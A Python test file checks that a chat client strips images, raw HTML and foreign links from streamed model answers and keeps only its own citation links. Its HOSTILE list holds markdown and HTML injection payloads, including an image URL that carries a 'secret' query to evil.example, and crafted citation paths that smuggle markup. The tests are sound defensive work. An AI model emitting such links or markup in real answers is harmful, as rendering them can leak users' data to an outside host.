"""What a chat client is given: nothing taken back, nothing that loads, and links of ours alone."""

from __future__ import annotations

from datetime import UTC, datetime
from typing import Any
from uuid import UUID

import pytest

from appliance.conversations.exporting.as_markdown import PARSER, is_active
from appliance.web.api.shapes import CitationOut, CountsOut, MessageOut, PatchCheckOut, PatchOut
from appliance.web.chat.wording import NOT_FOUND, Wording

HOSTILE = (
    "See ![x](https://evil.example/?q=secret).",
    "See [x](https://evil.example).",
    "<img src=https://evil.example/x>",
    "<https://evil.example>",
    "![x][1]\n\n[1]: https://evil.example/x",
    "`` ` `` ![x](https://evil.example)",
    "\\`![x](https://evil.example)\\`",
    "```\n![a](b)\n```\n![x](https://evil.example)",
    "- a\n  ![x](\n  https://evil.example)",
    "> ![x](https://evil.example)",
    "| a |\n|---|\n| ![x](https://evil.example) |",
)


def citation(number: int = 1, **more: Any) -> CitationOut:
    fields: dict[str, Any] = {
        "source": "shop", "commit": "a" * 40, "path": "cart.py", "first_line": 4, "last_line": 9,
        "state": "fresh", "url": "https://here/files/shop/a/cart.py?lines=4-9#L4", "text": "x",
        "offsets": [0],
    }  # fmt: skip
    return CitationOut(number=number, **{**fields, **more})


def message(text: str, **more: Any) -> MessageOut:
    fields: dict[str, Any] = {
        "id": UUID(int=1), "thread": UUID(int=2), "parent": None, "role": "answer", "state": "done",
        "sealed": False, "mode": "answer", "created_at": datetime.now(UTC), "text": text,
        "citations": [], "supported": 0, "unsupported": 0, "counts": CountsOut(), "unknown": [],
        "not_found": False, "patches": [], "error": "", "queue": None, "searched": [], "usage": {},
        "url": "https://here/threads/x",
    }  # fmt: skip
    return MessageOut(**{**fields, **more})


def links_of(text: str) -> list[str]:
    def below(tokens: Any) -> list[str]:
        found = []
        for token in tokens:
            found += [str(token.attrs[name]) for name in ("href", "src") if name in token.attrs]
            found += [token.type] if token.type.startswith("html") else []
            found += below(token.children or [])
        return found

    return below(PARSER.parse(text))


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("size", [1, 3, 7, 1000])
def test_nothing_of_the_model_loads_or_links(text: str, size: int) -> None:
    wording = Wording()
    assert is_active(text)  # or it tests nothing
    for end in range(size, len(text) + size, size):
        wording.add(message(text[:end], state="writing"))
    wording.finish(message(text, citations=[citation()]))
    assert links_of(wording.said) == ["https://here/files/shop/a/cart.py?lines=4-9#L4"]


def test_what_is_harmless_stays_as_it_is() -> None:
    text = "It calls `Vec<u8>` [1] and *adds*:\n\n```rust\nlet a: [u8] = b[1];\n```\n"
    wording = Wording()
    assert wording.add(message(text, state="writing")) == text


def test_pieces_are_the_whole() -> None:
    wording, text = Wording(), "One [1]. Two [2]. Three."
    pieces = [wording.add(message(text[:end], state="writing")) for end in (9, 9, 17)]
    pieces.append(wording.finish(message(text, citations=[citation(), citation(2)])))
    assert "".join(pieces) == wording.said
    assert wording.said.startswith(text)
    for number, one in enumerate(wording.annotations, start=1):
        cited = one.url_citation
        assert f"\\[{number}\\]" in wording.said[cited.start_index : cited.end_index]


def test_what_was_said_and_holds_no_more_is_said_again() -> None:
    wording = Wording()
    wording.add(message("It deletes the cart.", state="writing"))
    wording.finish(message("It keeps the cart."))
    assert wording.said.startswith("It deletes the cart.")
    assert wording.said.endswith("after the last check:**\n\nIt keeps the cart.")


def test_notes_and_patches_stand_in_the_text() -> None:
    wording = Wording()
    wording.finish(message("", not_found=True))
    assert wording.said == NOT_FOUND
    diff = "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-```\n+````\n"
    checks = [PatchCheckOut(name="applies", verdict="passed", reason="It applies.")]
    patch = PatchOut(number=1, source="s", commit="c", state="good", diff=diff, checks=checks)
    fixing = Wording()
    assert fixing.add(message("What is wrong", mode="fix", state="writing")) == ""
    fixing.finish(message("It was wrong.", mode="fix", patches=[patch], error="It was stopped."))
    assert fixing.said.startswith("It was wrong.\n\n`````diff\n--- a/x")
    assert fixing.said.endswith("`````\n\nIt was stopped.")


@pytest.mark.parametrize(
    "path", ["a](https://evil.example)[", "a\nb", "<img src=x>", "![x](y)", "a)b"]
)
def test_a_path_is_a_name_and_no_markup(path: str) -> None:
    wording = Wording()
    wording.finish(message("Yes [1].", citations=[citation(path=path, url="https://here/f/(x)")]))
    assert links_of(wording.said) == ["https://here/f/%28x%29"]
